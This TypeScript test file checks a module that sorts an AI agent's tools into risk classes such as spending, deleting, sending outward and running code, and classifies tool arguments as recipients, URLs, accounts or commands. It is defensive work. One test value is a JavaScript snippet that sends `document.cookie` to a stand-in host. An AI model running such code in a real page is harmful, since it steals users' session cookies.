import { describe, expect, test } from 'vitest';
import { definitionOf, labelTool, type ToolClass } from '../../../src/access/labels/label.ts';
import { nameWords } from '../../../src/access/labels/names.ts';
import { sinkOf, type SinkKind } from '../../../src/access/labels/sinks.ts';

test('names are taken apart in every usual style', () => {
  for (const name of ['send_wire_transfer', 'sendWireTransfer', 'SendWireTransfer', 'send-wire-transfer', 'send.wire/transfer']) expect(nameWords(name)).toEqual(['send', 'wire', 'transfer']);
  expect(nameWords('HTTPRequest2')).toEqual(['http', 'request', '2']);
});

describe('classes from a name and arguments alone', () => {
  test.each<[string, string[], ToolClass[], ToolClass[]]>([
    ['post_transfer', ['iban', 'amount'], ['spends'], ['destroys']],
    ['payInvoice', ['invoice_id'], ['spends'], []],
    ['get_payments', ['from'], ['reads_private'], ['spends', 'changes_state']],
    ['list_sent_messages', [], ['reads_private', 'reads_untrusted'], ['sends_outward']],
    ['mail.sendMessage', ['to', 'body'], ['sends_outward'], ['spends']],
    ['überweisen', ['iban', 'betrag'], ['spends'], []],
    ['enviar_correo', ['destinatario'], ['sends_outward'], []],
    ['supprimer_fichier', ['chemin'], ['destroys'], []],
    ['вызвать_оплату', ['счет', 'сумма'], ['spends'], []],
    ['发送邮件', ['收件人'], ['sends_outward'], []],
    ['mcp__files__deleteFolder', ['path'], ['destroys'], []],
    ['python', ['code'], ['runs_code'], []],
    ['run_terminal_command', ['command'], ['runs_code'], []],
    ['open_url', ['url'], ['fetches'], ['destroys']],
    ['read_ticket', ['id'], ['reads_untrusted'], ['changes_state']],
    ['invite_member', ['email'], ['grants_access'], []],
    ['do_it', ['account', 'amount'], ['spends'], []],
    ['listing_remove', ['id'], ['destroys'], []],
    ['list_delete', ['id'], ['destroys'], []],
    ['mail_delete', ['id'], ['destroys'], ['sends_outward']],
    ['order_cancel', ['order'], ['destroys'], []],
    ['page_publish', ['url', 'text'], ['sends_outward'], ['reads_untrusted']],
    ['payees', [], [], ['spends', 'changes_state']],
    ['transfers', ['iban', 'amount'], ['spends'], []],
    ['messages', ['to', 'body'], ['sends_outward'], []],
    ['customerContact', ['customer', 'text'], ['sends_outward'], []],
    ['get_deleted_items', [], [], ['destroys', 'changes_state']],
    ['ci_builds', ['project'], [], ['runs_code', 'changes_state']],
    ['pause_builds', [], ['changes_state'], []],
    ['add_workspace_member', ['name', 'email'], ['grants_access'], []],
    ['add_item', ['name'], ['changes_state'], ['grants_access']],
    ['doctorContact', ['name'], [], ['sends_outward']],
    ['contact_doctor', ['name'], ['sends_outward'], []],
    ['mail_move', ['id', 'folder'], ['changes_state'], ['sends_outward']],
    ['mail_forward', ['id', 'to'], ['sends_outward'], []],
    ['exporter_liste', ['service', 'destination'], ['changes_state'], []],
    ['lister_exports', ['service'], [], ['changes_state']],
    ['annuaire', ['nom'], [], ['changes_state', 'sends_outward']],
    ['ueberweisung_ausfuehren', ['iban', 'betrag'], ['spends'], []],
    ['lastschrift_zurueckgeben', ['umsatz_id'], ['changes_state'], []],
    ['ticket_weiterleiten', ['id', 'an'], ['changes_state'], []],
  ])('%s', (name, parameters, has, hasNot) => {
    const { classes } = labelTool(name, parameters);
    for (const each of has) expect([...classes]).toContain(each);
    for (const each of hasNot) expect([...classes]).not.toContain(each);
  });
});

test('a directory is looked up in, and a description that shows something tells of a name without a verb', () => {
  expect(labelTool('annuaire', ['nom']).unknown).toBe(false);
  expect(labelTool('solde_compte', ['compte'], definitionOf({ name: 'solde_compte', description: 'Affiche le solde.' })).unknown).toBe(false);
  expect(labelTool('settle-xy', ['id'], definitionOf({ name: 'settle-xy', description: 'Returns the goods.' })).classes.has('changes_state')).toBe(true);
});

test('a definition adds danger and never takes it away', () => {
  const safe = definitionOf({ type: 'function', function: { name: 'delete_note', description: 'Harmless.', parameters: { type: 'object', properties: { id: {} } }, annotations: { readOnlyHint: true } } });
  expect(labelTool('delete_note', ['id'], safe).classes.has('destroys')).toBe(true);
  const hinted = definitionOf({ name: 'tidy', description: 'Tidies up.', inputSchema: { properties: { where: {} } }, annotations: { destructiveHint: true } });
  expect(labelTool('tidy', ['where'], hinted).classes.has('destroys')).toBe(true);
  expect(definitionOf({ description: 'no name' })).toBeUndefined();
});

test.each<[string[], unknown, SinkKind | undefined]>([
  [['recipient_email'], 'x', 'recipient'], [['toAddress'], 'x', 'recipient'], [['webhookUrl'], 'x', 'url'], [['iban'], 'x', 'account'],
  [['betrag'], 1, 'amount'], [['file_path'], 'x', 'path'], [['cmd'], 'x', 'command'], [['newPassword'], 'x', 'credential'],
  [['message', 'to', 'value'], 'x', 'recipient'], [['foo'], 'a@b.example', 'recipient'], [['foo'], 'https://b.example/x', 'url'], [['body'], 'some text', undefined], [['recipient_type'], 'x', undefined],
])('the sink of %j', (keys, value, kind) => {
  expect(sinkOf(keys, value)).toBe(kind);
});

test('an address is one however long it is', () => {
  expect(sinkOf(['page'], `https://collect.example/${'a'.repeat(5_000)}`)).toBe('url');
  expect(sinkOf(['page'], `https://collect.example/ and ${'more words '.repeat(300)}`)).toBeUndefined();
});

test('a verb of reading at the end, an inbox, and verbs in spellings without umlauts', () => {
  for (const [name, parameters, description] of [['ablage_lesen', ['pfad'], ''], ['mail_oeffnen', ['id'], 'Ganzer Text einer Mail'], ['posteingang', ['suche'], 'Neue Mails und Formulare'], ['courriels', ['recherche'], 'Liste des courriels reçus.'], ['correo_leer', ['id'], '']] as const) {
    const definition = definitionOf({ function: { name, description, parameters: { type: 'object', properties: Object.fromEntries(parameters.map((each) => [each, {}])) } } });
    const { classes } = labelTool(name, parameters, definition);
    expect([...classes].filter((each) => !each.startsWith('reads_') && each !== 'fetches'), name).toEqual([]);
  }
  // What is done to something stands elsewhere in the name.
  expect(labelTool('mark_read', ['id']).classes.has('changes_state')).toBe(true);
});

test('parameters: the head of a compound, days that begin with "to", ids of mails', () => {
  expect(sinkOf(['lieferadresse'], 'Feldweg 3')).toBe('address');
  expect(sinkOf(['zielkonto'], 'giro')).toBe('account');
  expect(sinkOf(['to_date'], '2026-03-21')).toBeUndefined();
  expect(sinkOf(['mail_id'], 'm-3')).toBe('target');
  expect(sinkOf(['user_id'], 'u-3')).toBe('recipient');
});

test('what uploads, invites or opens a letter', () => {
  expect(labelTool('browser_file_upload', ['paths']).classes.has('sends_outward')).toBe(true);
  expect(labelTool('ajouter_planning', ['titre', 'jour', 'participants']).classes.has('sends_outward')).toBe(true);
  expect(labelTool('list_participants', ['participants']).classes.has('sends_outward')).toBe(false);
  expect([...labelTool('ouvrir_courrier', ['reference']).classes].filter((each) => !each.startsWith('reads_') && each !== 'fetches')).toEqual([]);
  expect(sinkOf(['adresse'], 'https://meteo.example/aubin')).toBe('url');
  expect(sinkOf(['adresse'], '12 rue des Tilleuls')).toBe('address');
});

test('names with a prefix for what they belong to, and rooms of a calendar', () => {
  for (const name of ['schedule.view', 'registrations.find', 'registrations_find', 'submissions.get', 'orders/list', 'crm__contacts.search']) expect([...labelTool(name, ['query']).classes].filter((each) => !each.startsWith('reads_')), name).toEqual([]);
  expect(labelTool('schedule.remove', ['talk']).classes.has('destroys')).toBe(true);
  expect(labelTool('schedule.place', ['talk', 'room', 'start']).classes.has('sends_outward')).toBe(false);
  expect(labelTool('schedule.place', ['talk', 'guests', 'start']).classes.has('sends_outward')).toBe(true);
  expect(labelTool('chat.post', ['room', 'text']).classes.has('sends_outward')).toBe(true);
});

test('an account in a parameter for values of any kind', () => {
  expect(sinkOf(['value'], 'GB33BUKB20201555555555')).toBe('account');
  expect(sinkOf(['value'], 'vegan')).toBe('amount');
});

test('what evaluates code runs it, behind a prefix too', () => {
  const classes = (name: string, description: string, parameters: readonly string[]): boolean => labelTool(name, parameters, { name, description, parameters, annotations: {} }).classes.has('runs_code');
  expect(classes('browser_evaluate', 'Evaluate JavaScript expression on page', ['function'])).toBe(true);
  expect(classes('page_evaluate', 'Runs it.', ['script'])).toBe(true);
  expect(classes('browser_snapshot', 'Shows how people evaluate a shop', ['shop'])).toBe(false);
  expect(sinkOf(['function'], '() => fetch("https://a.example/?" + document.cookie)')).toBe('command');
  expect(sinkOf(['function'], 'async function (x) { return x }')).toBe('command');
  expect(sinkOf(['function'], 'sumOfDeliveries')).toBeUndefined();
});
